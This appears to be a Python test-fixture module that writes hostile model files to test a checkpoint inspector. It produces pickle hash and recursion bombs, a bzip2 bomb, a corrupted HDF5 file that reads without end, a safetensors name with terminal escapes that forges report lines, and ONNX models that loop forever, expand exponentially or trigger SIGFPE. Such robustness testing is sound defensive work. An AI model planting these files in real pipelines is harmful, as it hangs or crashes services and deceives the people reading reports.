"""Files that harm a careless reader: they hang it, fill its memory, end it by a signal, or forge its output."""

import json
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import onnx
import torch
from onnx import TensorProto, helper

from helpers.checkpoints import narrow_state

FORGED = (
    "a\nintegrity  the manifest beside it describes this file\n\x1b[2K\x1b[1A\x1b[31mloads     yes: 22 of 22 tensors"
)
"""A tensor's name that forges lines of a report and hides its own."""


def torch_zip(path: Path, pickled: bytes) -> None:
    """Write what `torch.save` writes, with this pickle in it."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in (("data.pkl", pickled), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"a/{name}", content)


def aliased_tuples(path: Path, depth: int = 30) -> None:
    """Tuples of ten references to the one before, as a dict key: its hash takes 10**depth steps."""
    levels = b"".join(b"h%c" % level * 9 + b"tq%c" % (level + 1) for level in range(depth))
    torch_zip(path, b"\x80\x02}" + b"(" * depth + b"Nq\x00" + levels + b"X\x01\0\0\0as.")


def nested_tuples(path: Path, depth: int = 200_000) -> None:
    """Tuples inside one another as a dict key: C code that recurses overflows its stack."""
    torch_zip(path, b"\x80\x02})" + b"\x85" * depth + b"Ns.")


def sparse_tensors(path: Path) -> None:
    torch.save({name: tensor.to_sparse() for name, tensor in narrow_state().items()}, path)


def forged_name(path: Path) -> None:
    header = json.dumps({FORGED: {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    header += b" " * (-len(header) % 8)
    path.write_bytes(struct.pack("<Q", len(header)) + header + struct.pack("<f", 1))


def bzip2_bomb(path: Path, size: int = 32 << 20) -> None:
    """An array of zeros that unpacks to some 600,000 times its bytes."""
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as archive,
        archive.open("a.npy", "w", force_zip64=True) as member,
    ):
        np.lib.format.write_array_header_1_0(member, {"descr": "<f4", "fortran_order": False, "shape": (size // 4,)})
        for _ in range(size >> 20):
            member.write(bytes(1 << 20))


def endless_hdf5(path: Path) -> None:
    """A flipped bit in the rank of a chunked dataset: HDF5 1.14 reads its chunks without an end, and takes memory."""
    with h5py.File(path, "w") as file:
        for layer in ("conv4a", "conv4b", "conv5a"):
            values = np.ones((4, 4, 3, 3, 3), np.float32)
            file.create_dataset(f"{layer}/{layer}_W", data=values, chunks=values.shape, compression="gzip")
            file.create_dataset(f"{layer}/{layer}_b", data=np.ones(4, np.float32))
    content = bytearray(path.read_bytes())
    sizes = struct.pack("<5Q", 4, 4, 3, 3, 3)
    first = content.index(sizes)
    second = content.index(sizes, first + len(sizes))
    while content[second - 7] != 5:  # the message of the dataspace: version, rank, flags, 5 bytes, sizes
        second = content.index(sizes, second + 1)
    content[second - 7] ^= 1 << 2
    path.write_bytes(content)


def save_onnx(path: Path, nodes: list[onnx.NodeProto], constants: dict[str, Any], **more: Any) -> None:
    """Write a model from float32 `x` (1, 3) to `y` (1, 3)."""
    x, y = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [1, 3]) for name in "xy")
    weights = [onnx.numpy_helper.from_array(np.asarray(value), name) for name, value in constants.items()]
    domains = {imported.domain: imported for imported in more.pop("opset_imports", [])}
    imports = [*domains.values(), helper.make_opsetid("", 21)]
    model = helper.make_model(helper.make_graph(nodes, "g", [x], [y], weights), opset_imports=imports, **more)
    model.ir_version = 10
    path.write_bytes(model.SerializeToString())


def identity(path: Path) -> None:
    save_onnx(path, [helper.make_node("Identity", ["x"], ["y"])], {})


def endless_loop(path: Path) -> None:
    body = helper.make_graph(
        [helper.make_node("Identity", ["c"], ["co"]), helper.make_node("Add", ["s", "one"], ["so"])],
        "b",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("c", TensorProto.BOOL, []),
            helper.make_tensor_value_info("s", TensorProto.FLOAT, [1, 3]),
        ],
        [
            helper.make_tensor_value_info("co", TensorProto.BOOL, []),
            helper.make_tensor_value_info("so", TensorProto.FLOAT, [1, 3]),
        ],
        [onnx.numpy_helper.from_array(np.ones(3, np.float32), "one")],
    )
    save_onnx(path, [helper.make_node("Loop", ["", "cond", "x"], ["y"], body=body)], {"cond": np.array(True)})


def function_bomb(path: Path, depth: int = 40) -> None:
    """Functions that each call the next one twice: 2**depth operators."""
    imports = [helper.make_opsetid("", 21), helper.make_opsetid("d", 1)]
    functions: list[onnx.FunctionProto] = []
    for level in range(depth):
        last = level == depth - 1
        operator, domain = ("Neg", "") if last else (f"F{level + 1}", "d")
        nodes = [helper.make_node(operator, [a], [b], domain=domain) for a, b in (("a", "t"), ("t", "b"))]
        functions.append(helper.make_function("d", f"F{level}", ["a"], ["b"], nodes, imports))
    node = helper.make_node("F0", ["x"], ["y"], domain="d")
    save_onnx(path, [node], {}, functions=functions, opset_imports=[helper.make_opsetid("d", 1)])


def division_overflow(path: Path) -> None:
    """INT64_MIN / -1: onnxruntime folds the constant, and the processor raises SIGFPE."""
    nodes = [
        helper.make_node("Div", ["a", "b"], ["d"]),
        helper.make_node("Cast", ["d"], ["f"], to=TensorProto.FLOAT),
        helper.make_node("Add", ["x", "f"], ["y"]),
    ]
    save_onnx(path, nodes, {"a": np.full(3, -(2**63), np.int64), "b": np.full(3, -1, np.int64)})


HOSTILE_CHECKPOINTS: dict[str, Callable[[Path], None]] = {
    "hang.h5": endless_hdf5,
    "aliased-tuples-as-key.pth": aliased_tuples,
    "nested-tuples-as-key.pth": nested_tuples,
    "bomb-bz2.npz": bzip2_bomb,
    "spoof.safetensors": forged_name,
    "sparse.pth": sparse_tensors,
}
HOSTILE_MODELS: dict[str, Callable[[Path], None]] = {
    "int-min-div.onnx": division_overflow,
    "loop-endless.onnx": endless_loop,
    "function-bomb.onnx": function_bomb,
}
"""{file name: writes it}; `identity` writes a valid model of the same signature."""
